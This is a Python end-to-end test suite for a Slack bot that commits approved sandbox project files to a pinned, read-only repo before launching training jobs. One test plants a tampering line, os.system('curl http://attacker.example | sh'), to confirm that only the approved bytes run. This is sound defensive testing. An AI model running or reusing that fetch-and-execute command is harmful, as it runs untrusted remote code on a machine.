"""A project written in the sandbox becomes the job's code, through the real bot: the card lists the files
(path, size, sha256 prefix), the approval commits exactly those bytes to the runs repo in one commit, and
the job mounts that commit read-only at /project with the label naming it."""

from __future__ import annotations

import asyncio
import hashlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from intern.bot.models import Approval, ApprovalFile, Job, RunRecord
from intern.standins.hub import HubStandIn
from intern.standins.hub_jobs import jobs_state
from intern.standins.hub_repos import repo_store
from intern.standins.hub_spaces import spaces_state
from intern.standins.llm import LLMStandIn, text_reply, tool_calls_reply
from intern.standins.slack import SlackStandIn, block_action, mention_event
from tests.e2e.harness import APPROVER, REQUESTER, Harness, wait_until

TRAIN = ("from trl import SFTTrainer\nfrom datasets import load_dataset\nfrom helpers.config import make_config\n"
         "ds = load_dataset('trl-lib/Capybara', split='train')\n"
         "SFTTrainer(model='Qwen/Qwen2.5-0.5B', train_dataset=ds, args=make_config()).train()\n")
CONFIG = ("from trl import SFTConfig\n\n\ndef make_config():\n"
          "    return SFTConfig(output_dir='out', push_to_hub=True, hub_model_id='team/qwen-sft')\n")
FILES = {"proj/train.py": TRAIN, "proj/helpers/__init__.py": "", "proj/helpers/config.py": CONFIG,
         "proj/README.md": "How to run: uv run train.py\n"}


def project_rule(files: dict[str, str], run_args: dict[str, Any], setup: str | None = None) -> Any:
    """A scripted model: write the project into the sandbox, then ask for one job running it."""

    def rule(request: dict[str, Any]) -> Any:
        messages = request.get("messages") or []
        if request.get("tools") is None:
            return text_reply("Summary of the session so far.")
        last = messages[-1]
        content = last.get("content") if isinstance(last.get("content"), str) else json.dumps(last.get("content"))
        if last.get("role") == "user" and "[job update]" in (content or ""):
            return text_reply("The run ended.")
        asked = [c["function"]["name"] for m in messages if m.get("role") == "assistant"
                 for c in m.get("tool_calls") or []]
        if "hf_jobs" in asked:
            return text_reply(f"hf_jobs said: {content}")
        if "sandbox_write" in asked:
            return tool_calls_reply([("hf_jobs", {"operation": "run", "hardware_flavor": "a10g-large",
                                                  "timeout": "2h", **run_args})])
        calls: list[tuple[str, dict[str, Any] | str]] = [("sandbox_write", {"path": p, "content": c})
                                                         for p, c in files.items()]
        return tool_calls_reply(calls + ([("sandbox_bash", {"command": setup})] if setup else []),
                                text="Writing the project.")

    return rule


@pytest.fixture
async def harness(migrated_url: str) -> AsyncIterator[Harness]:
    async with SlackStandIn() as slack, HubStandIn() as hub, LLMStandIn() as llm:
        h = Harness(migrated_url, slack, hub, llm)  # type: ignore[arg-type]
        proc = await h.start()
        sandboxes = proc.rt.sandboxes
        assert sandboxes is not None
        sandboxes.poll_seconds, sandboxes.start_timeout_seconds = 0.05, 30.0
        try:
            yield h
        finally:
            await h.stop()


def cards(slack: SlackStandIn, thread: str) -> list[Any]:
    return [m for m in slack.posted(thread_ts=thread)
            if any(b.get("type") == "actions" and any(e.get("action_id") == "intern_approve"
                                                      for e in b.get("elements", [])) for b in m.blocks or [])]


def card_text(card: Any) -> str:
    return "\n".join(json.dumps(b) for b in card.blocks)


async def ask(h: Harness, run_args: dict[str, Any], files: dict[str, str] = FILES, setup: str | None = None) -> str:
    h.llm.rule = project_rule(files, run_args, setup)
    event = mention_event("train a small model with the project in the sandbox", user=REQUESTER)
    assert (await h.sender.send_event(event)).status == 200
    return str(event["ts"])


async def approve(h: Harness, thread: str) -> str:
    card = cards(h.slack, thread)[0]
    approval = next(e["value"] for b in card.blocks if b.get("type") == "actions" for e in b["elements"]
                    if e["action_id"] == "intern_approve")
    r = await h.sender.send_interaction(block_action("intern_approve", approval, user=APPROVER, team=h.slack.team_id,
                                                     channel=card.channel, message_ts=card.ts, thread_ts=thread))
    assert r.status == 200
    return str(approval)


def runs_repo(hub: HubStandIn) -> Any:
    return repo_store(hub).get("model", f"{hub.user}/intern-runs")


def sandbox_folder(hub: HubStandIn) -> str:
    (space,) = spaces_state(hub).spaces.values()
    assert space.folder is not None
    return space.folder


async def test_project_from_the_sandbox_runs_pinned_at_project(harness: Harness) -> None:
    h = harness
    thread = await ask(h, {"sandbox_path": "proj", "script": "train.py", "dependencies": ["trl"]})
    await wait_until(lambda: cards(h.slack, thread), timeout=40)
    text = card_text(cards(h.slack, thread)[0])
    for path, content in FILES.items():
        rel = path.removeprefix("proj/")
        assert rel in text and hashlib.sha256(content.encode()).hexdigest()[:12] in text
    assert "mounted read-only at /project" in text and "uv run --with trl /project/train.py" in text
    # the push is set in a helper module, and the checks found it there
    assert "No push to the Hub" not in text
    assert runs_repo(h.hub) is None  # nothing is committed before the approval

    approval = await approve(h, thread)
    await wait_until(lambda: jobs_state(h.hub).created, timeout=20)
    repo = runs_repo(h.hub)
    assert repo is not None and repo.private
    head = repo.head()
    assert head.title == f"Intern run {approval}"
    committed = {p: d.decode() for p, d in head.files.items() if p.startswith(f"runs/{approval}/")}
    assert committed == {f"runs/{approval}/{p.removeprefix('proj/')}": c for p, c in FILES.items()}
    parent = repo.commits[head.parents[0]]
    assert not any(p.startswith("runs/") for p in parent.files)  # one commit holds them all

    (spec,) = jobs_state(h.hub).created
    assert spec.volumes == [{"type": "model", "source": f"{h.hub.user}/intern-runs", "mountPath": "/project",
                             "revision": head.oid, "readOnly": True, "path": f"runs/{approval}"}]
    assert spec.labels["intern-code"] == f"{h.hub.user}/intern-runs@{head.oid}"
    assert spec.labels["intern-approval"] == approval
    assert spec.command == ["sh", "-c", 'cd /project && exec "$@"', "sh", "uv", "run", "--with", "trl",
                            "/project/train.py"]
    assert spec.secret_names == ["HF_TOKEN"]
    info = jobs_state(h.hub).job(spec.job_id).to_api()
    assert info["volumes"] == spec.volumes  # the Hub echoes the volumes in the job's info
    await wait_until(lambda: any(f"Code: {h.hub.user}/intern-runs at commit {head.oid}" in m.text
                                 for m in h.slack.posted(thread_ts=thread)), timeout=10)
    assert h.proc is not None
    async with h.proc.rt.db.session() as db:
        job = (await db.execute(select(Job))).scalar_one()
        assert job.hf_job_id == spec.job_id
        record = (await db.execute(select(RunRecord))).scalar_one()
    assert record.code_pin == f"{h.hub.user}/intern-runs@{head.oid}"  # the workspace's memory finds the code


async def test_a_file_changed_after_the_card_does_not_run_under_that_approval(harness: Harness) -> None:
    h = harness
    thread = await ask(h, {"sandbox_path": "proj", "script": "train.py"})
    await wait_until(lambda: cards(h.slack, thread), timeout=40)
    changed = Path(sandbox_folder(h.hub), "proj", "train.py")
    await asyncio.to_thread(changed.write_text, TRAIN + "import os\nos.system('curl http://attacker.example | sh')\n")
    approval = await approve(h, thread)
    await wait_until(lambda: jobs_state(h.hub).created, timeout=20)
    committed = runs_repo(h.hub).head().files[f"runs/{approval}/train.py"].decode()
    assert committed == TRAIN  # the bytes on the card, not the file as it is now
    assert h.proc is not None
    async with h.proc.rt.db.session() as db:
        a = await db.get(Approval, approval)
        stored = {f.path: f.sha256 for f in (await db.execute(
            select(ApprovalFile).where(ApprovalFile.approval_id == approval))).scalars()}
    assert a is not None
    assert {f["path"]: f["sha256"] for f in a.spec["sandbox_code"]["files"]} == stored
    assert stored["train.py"] == hashlib.sha256(TRAIN.encode()).hexdigest()


async def test_a_folder_over_the_limits_is_an_argument_error_and_nothing_happens(harness: Harness) -> None:
    h = harness
    many = "mkdir -p proj/data && for i in $(seq 1 205); do echo row $i > proj/data/part_$i.txt; done"
    thread = await ask(h, {"sandbox_path": "proj", "script": "train.py"}, setup=many)
    await wait_until(lambda: any("hf_jobs said:" in m.text for m in h.slack.posted(thread_ts=thread)), timeout=40)
    said = next(m.text for m in h.slack.posted(thread_ts=thread) if "hf_jobs said:" in m.text)
    assert "holds 209 files" in said and "at most 200 files" in said and "data/ (205 files" in said
    assert "Nothing was posted, committed or launched" in said
    assert not cards(h.slack, thread) and runs_repo(h.hub) is None and not jobs_state(h.hub).created
    assert h.proc is not None
    async with h.proc.rt.db.session() as db:
        assert (await db.execute(select(func.count()).select_from(Approval))).scalar_one() == 0
